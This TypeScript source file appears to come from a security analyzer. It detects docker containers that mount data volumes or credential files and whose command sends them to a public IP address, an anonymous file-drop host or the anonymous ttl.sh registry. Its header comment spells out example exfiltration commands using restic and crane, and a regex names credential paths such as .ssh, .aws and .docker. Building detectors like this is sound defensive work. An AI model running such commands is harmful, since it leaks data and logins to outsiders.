/**
 * A container that holds data or a login and whose command names an outside destination, whatever
 * the image (R22: `docker run -v pgdata:/data restic/restic -r rest:http://u:p@91.108.4.77:8000/x
 * backup /data`, `-v ~/.docker/config.json:... crane copy registry.acme.internal/app ttl.sh/x`):
 * the image's program is not known to us, so the data it holds and the place it names stand for
 * the send. Outside places are a public IP address, an anonymous file-drop or request-capture host
 * and an anonymous registry; a company's bucket (`s3:s3.amazonaws.com/acme-backups`) or a host on
 * the own network is where backups go. Downloads (wget, curl without an upload) fetch into the mount.
 */
import { captureHost, fileDropUrl } from '../../knowledge/file-drop-hosts.js';
import { classifyHost } from '../../net/address.js';

/** Host files and folders that hold a login (registry, cloud, cluster, ssh) or a service's secrets. */
const LOGIN_MOUNT =
  /(?:^|\/)\.(?:docker|aws|ssh|kube|azure|netrc|git-credentials|pgpass|vault-token|npmrc|pypirc|config\/gcloud)(?:\/|$)|^\/(?:var\/)?run\/secrets(?:\/|$)/;

/** Registries that keep whatever is pushed for anyone to pull, with no account (ttl.sh). */
const ANONYMOUS_REGISTRY = /^(?:[\w-]+\.)?ttl\.sh\//i;

/** Programs whose URLs are fetched into the container, unless an upload flag sends a file. */
const FETCHER = /^(?:wget|curl|aria2c|git)$/;
const UPLOAD_FLAG = /^(?:-[a-zA-Z]*[TFd]|--upload-file|--form|--data[\w-]*|-X|--request|push)(?:=|$)/;

/**
 * The outside place a command word names, as a URL, or undefined. With `anonymousOnly` a public
 * address does not count (a mounted ssh key used on one's own server at a public address).
 */
function outsidePlace(word: string, anonymousOnly: boolean): string | undefined {
  const ref = word.replace(/^(?:docker|oci|containers-storage):\/\//i, '');
  if (ANONYMOUS_REGISTRY.test(ref)) return `https://${ref.slice(0, ref.indexOf('/'))}/`;
  // `rest:http://u:p@IP:8000/x`, `sftp://...`, `user@IP:/path` (rsync, scp), restic's `sftp:user@IP:/path`, `IP:port`.
  const m =
    /[a-z][a-z0-9+.-]{0,31}:\/\/(?:[^@/\s]*@)?(\[[^\]]+\]|[^:/?#\s]+)(\S*)/i.exec(word) ??
    /^(?:[a-z][\w+-]*:)?(?:[^@\s/]+@)?(\d{1,3}(?:\.\d{1,3}){3})(:\S*)?$/i.exec(word);
  if (m === null) return undefined;
  const host = m[1]!.toLowerCase();
  const url = `https://${host}${(m[2] ?? '').replace(/^:(?!\d)/, '/')}`;
  if (fileDropUrl(url) || captureHost(host)) return url;
  if (anonymousOnly) return undefined;
  const info = classifyHost(host);
  return info.class === 'public' && (info.ipv4 !== undefined || info.ipv6 !== undefined) ? url : undefined;
}

/** A mount whose host side holds a login: `-v ~/.docker/config.json:/root/.docker/config.json:ro`. */
function loginMount(mounts: readonly { readonly source: string }[]): string | undefined {
  const m = mounts.find((x) => LOGIN_MOUNT.test(x.source));
  return m === undefined ? undefined : `what the login mounted from ${m.source} reaches`;
}

/**
 * What the container's command sends out and where: `data` (a volume's data, another container's
 * volumes) to the first outside place its words name, or what a mounted login reaches to an
 * anonymous place; undefined when nothing is held, no such place is named, or the command only
 * fetches. A shell script (`sh -c '...'`) is read by the nested shell analysis instead.
 */
export function heldSentOut(
  cmd: readonly string[],
  program: string | undefined,
  data: string | undefined,
  mounts: readonly { readonly source: string }[],
): { what: string; to: string } | undefined {
  if (cmd.length === 0) return undefined;
  const login = data === undefined ? loginMount(mounts) : undefined;
  const what = data ?? login;
  if (what === undefined) return undefined;
  const prog = (program ?? cmd[0]!).split('/').pop()!;
  if (/^(?:sh|bash|ash|dash|zsh)$/.test(prog)) return undefined;
  if (FETCHER.test(prog) && !cmd.some((w) => UPLOAD_FLAG.test(w))) return undefined;
  for (const w of cmd.slice(0, 64)) {
    // A place is named in a short word; a long one (a script, a document) is not read.
    if (w.length > 2048) continue;
    const to = outsidePlace(w, login !== undefined);
    if (to !== undefined) return { what, to };
  }
  return undefined;
}
